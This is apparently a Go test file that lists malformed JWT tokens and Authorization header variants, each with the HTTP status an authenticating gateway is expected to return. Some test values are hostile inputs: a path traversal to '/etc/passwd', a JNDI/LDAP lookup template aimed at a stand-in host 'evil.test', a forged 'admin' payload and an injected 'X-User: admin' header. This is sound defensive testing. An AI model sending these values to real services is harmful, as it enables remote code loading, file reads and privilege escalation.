package tokentest

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// forms are good tokens in another form than the compact one, or in a form of it that not all readers take for the same.
func forms() []Case {
	token := Good()
	parts := strings.Split(token, ".")
	h, p, s := parts[0], parts[1], parts[2]
	return []Case{
		{Name: "nothing", Token: ""},
		{Name: "dots", Token: ".."},
		{Name: "one part", Token: h},
		{Name: "two parts", Token: h + "." + p},
		{Name: "four parts", Token: token + "." + s},
		{Name: "a dot after", Token: token + "."},
		{Name: "a dot before", Token: "." + token},
		{Name: "no signature", Token: h + "." + p + "."},
		{Name: "no header", Token: "." + p + "." + s},
		{Name: "detached", Token: h + ".." + s},
		{Name: "JWE", Token: b64(`{"alg":"dir","enc":"A128GCM"}`) + "..AAAA.AAAA.AAAA"},
		{Name: "JWE, RSA1_5", Point: "3.2", Token: b64(`{"alg":"RSA1_5","enc":"A128CBC-HS256","zip":"DEF"}`) + ".AAAA.AAAA.AAAA.AAAA"},
		{Name: "JSON, flattened", Token: fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q}`, h, p, s), Want: 400},
		{Name: "JSON, general", Token: fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, p, h, s), Want: 400},
		{Name: "SD-JWT", Token: token + "~"},
		{Name: "payload swapped", Point: "3.3", Token: h + "." + b64(claims(map[string]any{"sub": "admin"})) + "." + s},
		{Name: "header swapped", Point: "3.3", Token: b64(`{"kid":"rsa-1","alg":"RS256"}`) + "." + p + "." + s},
		{Name: "parts in another order", Token: p + "." + h + "." + s},
		{Name: "padded", Token: token + "=="},
		{Name: "padded header", Token: base64.URLEncoding.EncodeToString([]byte(header)) + "=." + p + "." + s},
		{Name: "standard base64", Token: h + "." + p + "." + strings.NewReplacer("-", "+", "_", "/").Replace(s) + "+"},
		{Name: "stray bits in the header", Token: strayBits(h) + "." + p + "." + s},
		{Name: "stray bits in the payload", Token: h + "." + strayBits(p) + "." + s},
		{Name: "stray bits in the signature", Token: h + "." + p + "." + strayBits(s)},
		{Name: "a line end after", Token: token + "\n", Wire: 200},
		{Name: "a line end within", Token: h + ".\r\n" + p + "." + s, Wire: 400},
		{Name: "a space before", Token: " " + token},
		{Name: "a space within", Token: h + ". " + p + "." + s},
		{Name: "a space after", Token: token + " ", Wire: 200},
		{Name: "a tab after", Token: token + "\t", Wire: 200},
		{Name: "a tab within", Token: h + ".\t" + p + "." + s},
		{Name: "NUL after", Token: token + "\x00", Wire: 400},
		{Name: "NUL within", Token: h + ".\x00" + p + "." + s, Wire: 400},
		{Name: "bytes that are no UTF-8", Token: token + "\xff"},
		{Name: "letters of full width", Token: strings.Replace(token, "e", "\uff45", 1)},
		{Name: "an invisible space", Token: h + ".\u200b" + p + "." + s},
		{Name: "percent-encoded", Token: strings.Join(parts, "%2e")},
		{Name: "percent-encoded letter", Token: "%65" + token[1:]},
		{Name: "quoted", Token: `"` + token + `"`},
		{Name: "in angle brackets", Token: "<" + token + ">"},
		{Name: "a comma after", Token: token + ","},
		{Name: "a semicolon after", Token: token + ";"},
		{Name: "a parameter after", Token: token + `, realm="x"`},
		{Name: "Bearer twice", Token: "Bearer " + token},
		{Name: "twice with a space", Token: token + " " + token},
		{Name: "twice with a comma", Token: token + "," + token, Want: 400},
		{Name: "twice with a comma and Bearer", Token: token + ", Bearer " + token, Want: 400},
		{Name: "first a bad one", Token: "x, Bearer " + token, Want: 400},
		{Name: "then a bad one", Token: token + ", Bearer x", Want: 400},
		{Name: "an opaque one", Token: "0123456789abcdef"},
		{Name: "a path", Token: "../../etc/passwd"},
		{Name: "a template", Token: "${jndi:ldap://evil.test/x}"},
	}
}

// strayBits sets unused bits of the last letter: the bytes stay the same to a lenient reader.
func strayBits(part string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	if len(part)%4 == 0 {
		return part + "A" // no unused bits: a letter that adds none
	}
	last := strings.IndexByte(alphabet, part[len(part)-1])
	return part[:len(part)-1] + alphabet[last|1:last|1+1]
}

// requests bring tokens in other ways than one header of the usual form.
func requests() []Case {
	token := Good()
	bearer := "Authorization: Bearer " + token
	return []Case{
		{Name: "no header", Lines: []string{}, Want: 401},
		{Name: "an empty header", Lines: []string{"Authorization:"}, Want: 401},
		{Name: "the scheme alone", Lines: []string{"Authorization: Bearer"}, Want: 401},
		{Name: "no scheme", Lines: []string{"Authorization: " + token}, Want: 401},
		{Name: "two spaces", Lines: []string{"Authorization: Bearer  " + token}, Want: 401},
		{Name: "a tab", Lines: []string{"Authorization: Bearer\t" + token}, Want: 401},
		{Name: "no space", Lines: []string{"Authorization: Bearer" + token}, Want: 401},
		{Name: "a colon", Lines: []string{"Authorization: Bearer: " + token}, Want: 401},
		{Name: "an equals sign", Lines: []string{"Authorization: Bearer=" + token}, Want: 401},
		{Name: "something before", Lines: []string{"Authorization: xBearer " + token}, Want: 401},
		{Name: "Basic", Lines: []string{"Authorization: Basic YWxpY2U6c2VjcmV0"}, Want: 401},
		{Name: "the token as Basic", Lines: []string{"Authorization: Basic " + token}, Want: 401},
		{Name: "the token as a password", Lines: []string{"Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("alice:"+token))}, Want: 401},
		{Name: "DPoP", Lines: []string{"Authorization: DPoP " + token}, Want: 401},
		{Name: "Token", Lines: []string{"Authorization: Token " + token}, Want: 401},
		{Name: "Digest with the token", Lines: []string{`Authorization: Digest username="a", Bearer ` + token}, Want: 400},
		{Name: "Basic and Bearer", Lines: []string{"Authorization: Basic YTpi, Bearer " + token}, Want: 400},
		{Name: "two headers", Lines: []string{bearer, bearer}, Want: 400},
		{Name: "two headers, the second bad", Lines: []string{bearer, "Authorization: Bearer x"}, Want: 400},
		{Name: "two headers, the first bad", Lines: []string{"Authorization: Bearer x", bearer}, Want: 400},
		{Name: "two headers, one Basic", Lines: []string{"Authorization: Basic YTpi", bearer}, Want: 400},
		{Name: "two headers in other letters", Lines: []string{"authorization: Bearer x", "AUTHORIZATION: Bearer " + token}, Want: 400},
		{Name: "three headers", Lines: []string{bearer, bearer, bearer}, Want: 400},
		{Name: "in the query", Lines: []string{}, Query: "access_token=" + token, Want: 401},
		{Name: "in a cookie", Lines: []string{"Cookie: access_token=" + token + "; token=" + token + "; Authorization=Bearer%20" + token}, Want: 401},
		{Name: "in Proxy-Authorization", Lines: []string{"Proxy-Authorization: Bearer " + token}, Want: 401},
		{Name: "in X-Authorization", Lines: []string{"X-Authorization: Bearer " + token, "X-Forwarded-Authorization: Bearer " + token}, Want: 401},
		{Name: "in headers of other names", Lines: []string{"X-Forwarded-Access-Token: " + token, "X-Jwt-Assertion: " + token, "X-Id-Token: " + token}, Want: 401},
		{Name: "with an underscore", Lines: []string{"Author_ization: Bearer " + token}, Want: 400}, // headers with underscores are refused
		{Name: "a space before the colon", Lines: []string{"Authorization : Bearer " + token}, Want: 400},
		{Name: "the header that a token sets", Lines: []string{"X-User: admin"}, Want: 401},
		{Name: "a bad header and a good query", Lines: []string{"Authorization: Bearer x"}, Query: "access_token=" + token, Want: 401},
		{Name: "good: Bearer in lower case", Lines: []string{"Authorization: bearer " + token}, Want: 200},
		{Name: "good: Bearer in capitals", Lines: []string{"AUTHORIZATION: BEARER " + token}, Want: 200},
		{Name: "good: an empty header before", Lines: []string{"Authorization:", bearer}, Want: 200}, // Envoy leaves it out
		{Name: "good: spaces around", Lines: []string{"Authorization:   Bearer " + token + "  "}, Want: 200},
	}
}
